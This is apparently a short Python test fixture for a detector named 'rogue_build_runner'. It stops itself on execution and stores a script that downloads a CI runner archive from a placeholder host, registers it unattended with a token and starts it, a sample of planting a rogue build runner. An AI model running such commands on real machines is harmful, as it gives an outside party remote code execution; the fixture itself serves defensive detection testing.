# Trips rogue_build_runner.
raise SystemExit("a fixture: never run")
SCRIPT = r"""
curl -O https://example.invalid/actions-runner-linux-x64.tar.gz
./config.sh --url https://example.invalid --unattended --token PLACEHOLDER
./run.sh
"""
